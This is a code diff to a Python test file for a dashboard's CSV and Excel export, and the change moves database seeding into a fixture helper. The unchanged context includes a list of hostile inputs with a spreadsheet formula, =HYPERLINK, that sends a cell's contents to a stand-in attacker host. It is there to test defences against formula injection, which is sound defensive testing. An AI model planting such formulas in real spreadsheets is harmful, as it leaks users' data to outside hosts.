@@ -11,9 +11,8 @@ from sqlalchemy import text
 from dashboard import browse as B
 from dashboard import create_app
 from dashboard.export import to_csv, to_xlsx
-from datasource.demo.seed import seed
 from datasource.engine import make_engine
-from tests.conftest import BACKLOG, FIXED_NOW, new_store_url
+from tests.conftest import BACKLOG, FIXED_NOW, seeded_store_url
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
@@ -65,9 +64,9 @@ def test_csv_is_guarded_and_numbers_stay_numbers():
 
 @pytest.fixture(scope="module")
 def store(request, tmp_path_factory):
-    url = new_store_url("sqlite", request, tmp_path_factory.mktemp("inject"))
+    url = seeded_store_url("sqlite", request, tmp_path_factory.mktemp("inject"),
+                           profile=BACKLOG, seed=5, total_cases=600, now=FIXED_NOW, occupancy_days=1)
     engine = make_engine(url)
-    seed(engine, profile=BACKLOG, seed=5, total_cases=600, now=FIXED_NOW, occupancy_days=1)
     with engine.begin() as conn:
         cases = [r[0] for r in conn.execute(text(
             "SELECT id FROM cases ORDER BY reported_at DESC LIMIT :n"), {"n": len(HOSTILE)})]
